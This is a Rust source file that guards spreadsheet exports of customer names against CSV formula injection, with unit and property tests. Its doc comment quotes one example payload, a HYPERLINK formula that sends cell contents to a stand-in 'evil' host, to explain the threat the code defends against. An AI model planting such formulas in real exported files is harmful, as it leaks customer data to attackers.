//! Rules for data that leaves Yutang as files operators open in spreadsheets.

/// A text cell that a spreadsheet will show as text, never run as a formula.
///
/// Customer names come from WeCom nicknames, imports and mini-program sign-ups, so anyone can
/// name themselves `=HYPERLINK("http://evil/?"&A1,"点我")`. Excel, WPS and LibreOffice treat a
/// cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (OWASP
/// "CSV injection"); a leading apostrophe makes them show the text as it is. Only free text
/// goes through this: ids and amounts are written by Yutang and stay numbers.
pub fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_text;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text() {
        assert_eq!(spreadsheet_text("=1+1"), "'=1+1");
        assert_eq!(
            spreadsheet_text("=HYPERLINK(\"http://x\")"),
            "'=HYPERLINK(\"http://x\")"
        );
        assert_eq!(spreadsheet_text("+8613800000000"), "'+8613800000000");
        assert_eq!(spreadsheet_text("-2+3"), "'-2+3");
        assert_eq!(spreadsheet_text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(spreadsheet_text("\t=1"), "'\t=1");
    }

    #[test]
    fn plain_text_is_untouched() {
        for s in ["", "王小明", "上海", "金卡", "a=b", "1+1", "'quoted"] {
            assert_eq!(spreadsheet_text(s), s);
        }
    }

    proptest! {
        /// Whatever the input, the cell never starts with a formula character and the
        /// original text is kept whole after at most one added apostrophe.
        #[test]
        fn never_starts_a_formula(s in ".*") {
            let out = spreadsheet_text(&s);
            prop_assert!(!out.starts_with(['=', '+', '-', '@', '\t', '\r']));
            prop_assert!(out == s || out.strip_prefix('\'') == Some(s.as_str()));
        }
    }
}
